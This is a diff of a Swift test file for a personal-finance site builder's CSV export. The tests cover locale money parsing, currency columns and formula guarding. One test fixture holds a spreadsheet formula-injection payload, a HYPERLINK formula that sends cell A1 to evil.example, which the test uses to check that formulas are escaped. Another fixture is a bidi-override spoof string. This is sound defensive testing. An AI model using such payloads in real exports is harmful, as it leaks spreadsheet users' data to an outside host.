@@ -1,6 +1,7 @@
 import Foundation
 import Testing
 @testable import NestEggBuild
+@testable import NestEggLoad
 @testable import NestEggModel
 @testable import NestEggReport
 @testable import NestEggRender
@@ -36,6 +37,40 @@ import Testing
 
     static func cells(_ markdown: String) -> [[String]] { TableCSV.tables(in: markdown).first?.rows ?? [] }
 
+    /// A CSV's plain decimal (`-1234.56`) as money of `currency` (ISO code), if it is one with the
+    /// currency's own minor digits: the tests' reading, apart from the locale's.
+    static func money(decimal: String, currency code: String) -> Money? {
+        guard let currency = Currency(code: code),
+              let match = decimal.wholeMatch(of: /(-?)([0-9]+)(?:\.([0-9]+))?/) else { return nil }
+        let fraction = match.3.map(String.init) ?? ""
+        guard fraction.count == currency.minorDigits, let whole = Int128(String(match.2)) else { return nil }
+        let minor = whole * Int128(currency.minorUnitsPerUnit) + (Int128(fraction) ?? 0)
+        return Money(minorUnits: match.1.isEmpty ? minor : -minor, currency: currency)
+    }
+
+    /// Amounts read back exactly as each locale writes them, and nothing else read as one.
+    @Test func anAmountIsReadBackExactlyAsTheLocaleWritesIt() {
+        let amounts: [Money] = [gbp(-123456), gbp(0), usd(1_234_567_890), Money(minorUnits: -5, currency: Currency(code: "JPY")!),
+                                Money(minorUnits: 999, currency: Currency(code: "CHF")!)]
+        for locale in SiteLocale.all {
+            for amount in amounts {
+                #expect(locale.money(parsing: locale.format(amount)) == amount, "\(locale.identifier) \(locale.format(amount))")
+            }
+        }
+        #expect(SiteLocale.enGB.money(parsing: "+£12.50") == gbp(1250))
+        for text in ["£1234.56", "£1,234.5", "-12%", "£5.00 (50%)", "£", "1.00£", "-£0.00", "US$1,23.00", "£1,234.56x", "GBP 1.00"] {
+            #expect(SiteLocale.enGB.money(parsing: text) == nil, "\(text)")
+        }
+    }
+
+    @Test func aColumnOfSeveralCurrenciesGetsACurrencyColumn() throws {
+        let markdown = "| Account | Balance | Share |\n| --- | ---: | ---: |\n| A | -£1,234.56 | -12% |\n| B | US$7.00 | 3% |\n| C | – | – |\n"
+        let csv = try #require(TableCSV.tables(in: markdown).first).csv(locale: .enGB)
+        #expect(csv == "Account,Balance,Balance currency,Share\r\nA,-1234.56,GBP,-12%\r\nB,7.00,USD,3%\r\nC,–,,–\r\n")
+        let named = try #require(TableCSV.tables(in: "| Account | In GBP |\n| --- | --: |\n| A | £2.00 |\n").first).csv(locale: .enGB)
+        #expect(named == "Account,In GBP\r\nA,2.00\r\n")
+    }
+
     @Test func anEscapedPipeStaysInItsCell() {
         #expect(Self.cells("| a \\| b | c |\n| --- | --- |\n| 1 \\| 2 | 3 |\n") == [["a | b", "c"], ["1 | 2", "3"]])
     }
@@ -50,30 +85,31 @@ import Testing
         let markdown = "| Payee | Amount |\n| --- | ---: |\n| \(Escape.value(payee, at: .tableCell)) | -£1,234.56 |\n| @SUM(A1) | +1 |\n"
         let table = try #require(TableCSV.tables(in: markdown).first)
         #expect(table.rows[1][0] == payee)
-        let csv = table.csv
-        // The formulas are guarded; the figures, which hold no formula, stay figures a spreadsheet reads.
-        #expect(csv == "Payee,Amount\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",\"-£1,234.56\"\r\n'@SUM(A1),+1\r\n")
+        let csv = table.csv(locale: .enGB)
+        // The formulas are guarded; the amount is a plain decimal (its currency in the header), and a
+        // bare number, which holds no formula, stays a figure a spreadsheet reads.
+        #expect(csv == "Payee,Amount (GBP)\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",-1234.56\r\n'@SUM(A1),+1\r\n")
         let parsed = try #require(Self.parse(csv))
         #expect(parsed.map(\.[0]).allSatisfy { field in !["=", "+", "-", "@"].contains(field.first.map(String.init) ?? "") })
     }
 
     @Test func nonASCIIAndBidiControls() throws {
         let markdown = "| Payee |\n| --- |\n| Café Zoë — 日本 🙂 |\n| \u{202E}1.00£ evil |\n| \u{2068}שלום\u{2069} |\n"
-        let csv = try #require(TableCSV.tables(in: markdown).first).csv
+        let csv = try #require(TableCSV.tables(in: markdown).first).csv(locale: .enGB)
         #expect(csv == "Payee\r\nCafé Zoë — 日本 🙂\r\n1.00£ evil\r\nשלום\r\n")
         #expect(!csv.unicodeScalars.contains(where: Text.isBidiControl))
     }
 
     @Test func shortRowsArePaddedAndWidthIsTheHeaders() throws {
         let table = try #require(TableCSV.tables(in: "| a | b | c |\n| - | - | - |\n| 1 |\n").first)
-        #expect(try #require(Self.parse(table.csv)) == [["a", "b", "c"], ["1", "", ""]])
+        #expect(try #require(Self.parse(table.csv(locale: .enGB))) == [["a", "b", "c"], ["1", "", ""]])
     }
 
     @Test func eachTableIsLinkedUnderItselfInBothFlavours() {
         let plain = "# T\n\n| a |\n| - |\n| 1 |\n\nText.\n\n| b |\n| - |\n| 2 |\n| 3 |\n"
         // The HTML flavour has a table of its own (a chart's data) before the second.
         let forHTML = "# T\n\n| a |\n| - |\n| 1 |\n\nText.\n\n| only HTML |\n| - |\n| x |\n\n| b |\n| - |\n| 2 |\n| 3 |\n"
-        let linked = TableCSV.link(plain: plain, forHTML: forHTML, page: "week")
+        let linked = TableCSV.link(plain: plain, forHTML: forHTML, page: "week", locale: .enGB)
         #expect(linked.plain == "# T\n\n| a |\n| - |\n| 1 |\n\n[This table as CSV](week.table-1.csv)\n\nText.\n\n| b |\n| - |\n| 2 |\n| 3 |\n\n[This table as CSV](week.table-3.csv)\n")
         #expect(linked.forHTML == "# T\n\n| a |\n| - |\n| 1 |\n\n[This table as CSV](week.table-1.csv)\n\nText.\n\n| only HTML |\n| - |\n| x |\n\n[This table as CSV](week.table-2.csv)\n\n| b |\n| - |\n| 2 |\n| 3 |\n\n[This table as CSV](week.table-3.csv)\n")
         #expect(linked.csvs == ["a\r\n1\r\n", "only HTML\r\nx\r\n", "b\r\n2\r\n3\r\n"])
@@ -83,7 +119,7 @@ import Testing
     }
 
     @Test func aPageWithoutTablesIsUnchanged() {
-        let linked = TableCSV.link(plain: "# a | b\n\nx | y\n", forHTML: "# a | b\n", page: "p")
+        let linked = TableCSV.link(plain: "# a | b\n\nx | y\n", forHTML: "# a | b\n", page: "p", locale: .enGB)
         #expect(linked.plain == "# a | b\n\nx | y\n" && linked.forHTML == "# a | b\n" && linked.csvs.isEmpty)
     }
 
@@ -95,12 +131,20 @@ import Testing
         for (index, value) in strings.enumerated() { markdown += "| \(Escape.value(value, at: .tableCell)) | \(index) |\n" }
         let table = try #require(TableCSV.tables(in: markdown).first)
         try #require(table.rows.count == strings.count + 1)
-        let rows = try #require(Self.parse(table.csv))
+        let rows = try #require(Self.parse(table.csv(locale: .enGB)))
         try #require(rows.count == strings.count + 1)
         var failures: [String] = []
+        // Data text that happens to be exactly an amount as the page writes it is read as one: then
+        // the header says its currency (one) or a currency column follows (several).
+        let mixed = rows[0].count == 3
         for (index, value) in strings.enumerated() {
-            let expected = CSVCell.guarded(Text.withoutBidiControls(Oracle.normalised(value)))
-            if rows[index + 1] != [expected, String(index)] { failures.append("\(value.debugDescription) → \(rows[index + 1].debugDescription)") }
+            let text = Text.withoutBidiControls(Oracle.normalised(value))
+            let expected = CSVCell.guarded(text)
+            let row = rows[index + 1]
+            if row == (mixed ? [expected, "", String(index)] : [expected, String(index)]) { continue }
+            let currency = mixed ? row[1] : String(rows[0][0].dropFirst("Name (".count).dropLast())
+            if let amount = Self.money(decimal: row[0], currency: currency), SiteLocale.enGB.format(amount) == text.replacingOccurrences(of: "+", with: "") { continue }
+            failures.append("\(value.debugDescription) → \(row.debugDescription)")
         }
         #expect(failures.isEmpty, "\(failures.count): \(failures.prefix(8))")
     }
@@ -136,6 +180,41 @@ import Testing
         return tables
     }
 
+    /// Where a CSV read back differs from its HTML table (`nil`: nowhere). The CSV's header names
+    /// each column's currency (`Amount (GBP)`) or is followed by a currency column (`Amount
+    /// currency`); a cell with a currency is a plain decimal that the site's locale writes as the
+    /// page's cell; every other cell is the page's text, guarded; no cell is left an amount as shown.
+    static func differs(csv: [[String]], page: [[String]], locale: SiteLocale = .enGB) -> String? {
+        guard let header = csv.first, let pageHeader = page.first else { return "empty" }
+        var csvColumn = 0
+        for (column, name) in pageHeader.enumerated() {
+            guard csvColumn < header.count else { return "header \(header) against \(pageHeader)" }
+            let heading = header[csvColumn]
+            // `Amount (GBP)`, or a header that names its currency already (`In GBP`).
+            let single = heading.wholeMatch(of: /(.*?) ?\(([A-Z]{3})\)/).map { (String($0.1), String($0.2)) }
+                ?? heading.split(separator: " ").first { $0.count == 3 && Currency(code: String($0)) != nil && $0.allSatisfy(\.isUppercase) }
+                    .map { (heading, String($0)) }
+            let perRow = csvColumn + 1 < header.count && header[csvColumn + 1] == (name.isEmpty ? "Currency" : "\(name) currency")
+                && !(column + 1 < pageHeader.count && pageHeader[column + 1] == header[csvColumn + 1])
+            if single == nil && heading != CSVCell.guarded(Text.withoutBidiControls(name)) { return "header \(heading) for \(name)" }
+            if let single, single.0 != name { return "header \(heading) for \(name)" }
+            for (csvRow, pageRow) in zip(csv.dropFirst(), page.dropFirst()) {
+                let shown = Text.withoutBidiControls(column < pageRow.count ? pageRow[column] : "")
+                let cell = csvRow[csvColumn]
+                let currency = perRow ? csvRow[csvColumn + 1] : single?.1
+                if let currency, !currency.isEmpty, let amount = TableCSVTests.money(decimal: cell, currency: currency) {
+                    if locale.format(amount) != shown.replacingOccurrences(of: "+", with: "") { return "\(cell) \(currency) shown as \(shown)" }
+                } else if cell != CSVCell.guarded(shown) {
+                    return "\(cell.debugDescription) for \(shown.debugDescription)"
+                } else if locale.money(parsing: shown) != nil {
+                    return "\(shown) left as shown"
+                }
+            }
+            csvColumn += perRow ? 2 : 1
+        }
+        return csvColumn == header.count ? nil : "\(header.count - csvColumn) columns more than the page"
+    }
+
     /// A cell's text as a reader reads it: an inline chart (a picture) and tags out, entities decoded.
     static func text(of html: String) -> String {
         var text = html.replacingOccurrences(of: "<svg.*?</svg>", with: "", options: .regularExpression)
@@ -155,12 +234,17 @@ import Testing
         build.progress = { _ in }
         _ = try build.run()
         let files = snapshot(site)
-        var tablesSeen = 0, failures: [String] = []
+        var tablesSeen = 0, amountsSeen = 0, failures: [String] = []
         var csvsLinked: Set<String> = []
-        // Every page but the 404 page and the statements (whose lines have their own CSV and camt.053).
-        let statement = /statements\/[^\/]+\/[0-9]{4}-[0-9]{2}\.html/
+        // The pages whose report says their tables have no CSV (``Page/tablesAsCSV``): the statements
+        // and the page for missing addresses. The same rule the renderer reads, from the same report.
+        let log = DiagnosticLog()
+        let dataset = DataLoader.load(try DataFolder(root: repositoryRoot.appendingPathComponent("Fixtures")), log: log)
+        let reported = SiteReport.build(dataset)
+        let noCSV = Set((reported.pages + [SiteMeta.notFoundPage(site: reported)]).filter { !$0.tablesAsCSV }.map(\.path))
+        #expect(noCSV.contains("404") && noCSV.contains { $0.hasPrefix("statements/") })
         for (path, data) in files.sorted(by: { $0.key < $1.key })
-        where path.hasSuffix(".html") && path != "404.html" && path.wholeMatch(of: statement) == nil {
+        where path.hasSuffix(".html") && !noCSV.contains(String(path.dropLast(5))) {
             let folder = path.contains("/") ? String(path[..<path.lastIndex(of: "/")!]) + "/" : ""
             for (index, table) in Self.htmlTables(String(decoding: data, as: UTF8.self)).enumerated() {
                 tablesSeen += 1
@@ -169,14 +253,13 @@ import Testing
                 guard let csv = files[folder + link], let rows = TableCSVTests.parse(String(decoding: csv, as: UTF8.self)) else {
                     failures.append("\(path): \(link) missing or not RFC 4180"); continue
                 }
-                let expected = table.rows.map { $0.map { CSVCell.guarded(Text.withoutBidiControls($0)) } }
-                if rows.count != expected.count { failures.append("\(path): \(link) has \(rows.count) rows, the page \(expected.count)") }
-                else if rows != expected { failures.append("\(path): \(link) differs: \(zip(rows, expected).first { $0 != $1 }.debugDescription)") }
+                if rows.count != table.rows.count { failures.append("\(path): \(link) has \(rows.count) rows, the page \(table.rows.count)"); continue }
+                if let difference = Self.differs(csv: rows, page: table.rows) { failures.append("\(path): \(link): \(difference)") }
+                amountsSeen += rows.dropFirst().reduce(0) { $0 + $1.filter { $0.wholeMatch(of: /-?[0-9]+\.[0-9]{2}/) != nil }.count }
             }
         }
         // Each table of the Markdown links, on the line after the next, to a CSV of its rows and columns.
-        let statementMarkdown = /statements\/[^\/]+\/[0-9]{4}-[0-9]{2}\.md/
-        for (path, data) in files where path.hasSuffix(".md") && path.wholeMatch(of: statementMarkdown) == nil {
+        for (path, data) in files where path.hasSuffix(".md") && !noCSV.contains(String(path.dropLast(3))) {
             let markdown = String(decoding: data, as: UTF8.self)
             let lines = markdown.split(separator: "\n", omittingEmptySubsequences: false)
             let folder = path.contains("/") ? String(path[..<path.lastIndex(of: "/")!]) + "/" : ""
@@ -189,13 +272,15 @@ import Testing
                 guard let csv = files[name], let rows = TableCSVTests.parse(String(decoding: csv, as: UTF8.self)) else {
                     failures.append("\(path): \(name) missing"); continue
                 }
-                if rows.count != table.rows.count || rows.first?.count != table.rows.first?.count {
+                // (A column of several currencies has its currency column beside it in the CSV.)
+                if rows.count != table.rows.count || (rows.first?.count ?? 0) < (table.rows.first?.count ?? 0) {
                     failures.append("\(path): \(name) is not the shape of table \(index + 1)")
                 }
             }
         }
         let written = Set(files.keys.filter { $0.contains(".table-") && $0.hasSuffix(".csv") })
         #expect(tablesSeen > 50)
+        #expect(amountsSeen > 500)
         #expect(written == csvsLinked, "CSVs no HTML table links: \(written.subtracting(csvsLinked).sorted().prefix(5))")
         #expect(failures.isEmpty, "\(failures.count): \(failures.prefix(10).joined(separator: "\n"))")
     }
